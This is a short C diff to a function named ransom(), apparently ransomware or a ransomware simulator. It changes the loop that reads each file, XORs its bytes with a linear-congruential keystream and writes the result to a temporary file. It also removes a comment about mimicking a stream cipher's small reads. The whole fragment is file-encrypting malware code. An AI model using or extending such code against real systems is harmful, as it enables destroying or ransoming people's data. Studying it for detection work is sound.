@@ -77,8 +77,7 @@ static int ransom(const char *dir)
 		o = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0600);
 		if (o < 0)
 			return die(tmp);
-		/* Small reads and writes, as a stream cipher's loop makes them. */
-		while ((n = read(fd, buf, 1024)) > 0) {
+		while ((n = read(fd, buf, sizeof(buf))) > 0) {
 			for (i = 0; i < n; i++) {
 				key = key * 1664525u + 1013904223u;
 				buf[i] ^= (char)(key >> 24);
